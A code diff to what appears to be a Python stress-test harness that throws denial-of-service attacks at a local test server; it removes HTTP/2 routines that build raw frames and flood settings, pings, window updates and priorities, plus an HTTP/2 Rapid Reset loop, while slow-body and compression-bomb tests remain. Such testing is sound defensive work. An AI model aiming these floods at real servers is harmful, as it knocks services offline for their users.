@@ -144,64 +144,6 @@ async def _second_head(line: _Line) -> None:
     await _trickle(line, _upgrade())
 
 
-def _http2_frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
-    header = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
-    return header + payload
-
-
-_HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 1, 2, 3, 4, 6, 7, 8
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _http2_frame(_SETTINGS)
-# GET / of the host `test`. Flags 5: no body and no further headers follow.
-_GET = b"\x82\x84\x86\x01\x04test"
-
-
-async def _idle_http2(line: _Line) -> None:
-    await line.send_all(_PREFACE)
-
-
-async def _http2_flood(line: _Line, frame: bytes) -> None:
-    await line.send_all(_PREFACE)
-    await _keep_sending(line, frame * (_FLOOD_PIECE // len(frame)))
-    await line.send_all(_http2_frame(_GOAWAY, bytes(8)))
-
-
-async def _http2_settings(line: _Line) -> None:
-    await _http2_flood(line, _http2_frame(_SETTINGS, b"\x00\x04\x00\x00\xff\xff"))
-
-
-async def _http2_pings(line: _Line) -> None:
-    await _http2_flood(line, _http2_frame(_PING, bytes(8)))
-
-
-async def _http2_windows(line: _Line) -> None:
-    # The window of the connection holds 2**31 bytes, so these frames run out in the end, and the server disconnects.
-    await _http2_flood(line, _http2_frame(_WINDOW_UPDATE, b"\x00\x00\x00\x01"))
-
-
-async def _http2_priorities(line: _Line) -> None:
-    # 850 streams, and then each in turn becomes the parent of all others.
-    numbers = range(1, 1701, 2)
-    tree = b"".join(_http2_frame(_PRIORITY, b"\0\0\0\0\x0f", stream=each) for each in numbers)
-    moves = b"".join(_http2_frame(_PRIORITY, b"\x80\0\0\0\x0f", stream=each) for each in numbers)
-    await line.send_all(_PREFACE + tree)
-    await _keep_sending(line, moves * (_FLOOD_PIECE // len(moves)))
-    await line.send_all(_http2_frame(_GOAWAY, bytes(8)))
-
-
-async def _rapid_reset(line: _Line) -> None:
-    await line.send_all(_PREFACE)
-    with trio.move_on_after(_FLOOD_SECONDS):
-        for first in range(1, 2**31, 4000):
-            await line.send_all(
-                b"".join(
-                    _http2_frame(_HEADERS, _GET, flags=5, stream=number)
-                    + _http2_frame(_RESET, bytes(4), stream=number)
-                    for number in range(first, first + 4000, 2)
-                )
-            )
-    await line.stream.aclose()
-
-
 async def _polls_at_once(line: _Line) -> None:
     head = "GET /socket/longpoll?vsn=2.0.0{} HTTP/1.1\r\nHost: test\r\n\r\n"
     await line.send_all(head.format("").encode())
@@ -332,12 +274,6 @@ ATTACKS: dict[str, tuple[Stranger, tuple[int, ...]]] = {
     "a polling client's body, a byte a second": (_slow_poll, (1000,)),
     "a page's body, a byte a second": (_slow_page, (1000,)),
     "a second head, a byte a second": (_second_head, (1000,)),
-    "HTTP/2 without a request": (_idle_http2, (1000,)),
-    "a flood of HTTP/2 settings": (_http2_settings, (1, 10, 100)),
-    "a flood of HTTP/2 pings": (_http2_pings, (1, 10, 100)),
-    "a flood of HTTP/2 window updates": (_http2_windows, (1, 10)),
-    "a flood of HTTP/2 priorities": (_http2_priorities, (1, 10)),
-    "HTTP/2 requests, each reset at once": (_rapid_reset, (1, 10, 100)),
     "polls at the same moment": (_polls_at_once, (500,)),
     "most of a message of 10 MB": (_half_messages, (100,)),
     "a gigabyte, compressed": (_bomb_too_big, (1, 10)),
